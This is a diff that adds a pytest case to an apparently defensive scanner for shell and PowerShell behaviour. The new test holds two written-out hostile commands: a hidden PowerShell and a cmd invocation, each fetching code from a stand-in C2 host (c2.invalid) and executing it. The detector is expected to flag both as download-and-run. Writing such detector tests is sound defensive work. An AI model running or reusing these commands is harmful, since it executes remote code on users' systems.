@@ -95,3 +95,15 @@ def test_cmdlets_have_meanings(text: str, behaviour: str) -> None:
 
 def test_honest_lines_show_nothing_that_matters() -> None:
     assert behaviours("Get-Host; $PSVersionTable.PSVersion | Write-Output") == set()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Start-Process powershell -WindowStyle Hidden -ArgumentList '-c','iwr http://c2.invalid/a|iex'",
+        'Start-Process -FilePath cmd.exe -Args "/c curl -s http://c2.invalid/a -o a.exe & a.exe"',
+    ],
+)
+def test_what_a_started_interpreter_is_given_is_read(text):
+    found = shell.facts(text, Location(member="x.ps1"), "install", Budget(Limits()), "powershell")
+    assert "exec/download-run" in {one.behaviour for one in found if isinstance(one, Fact)}
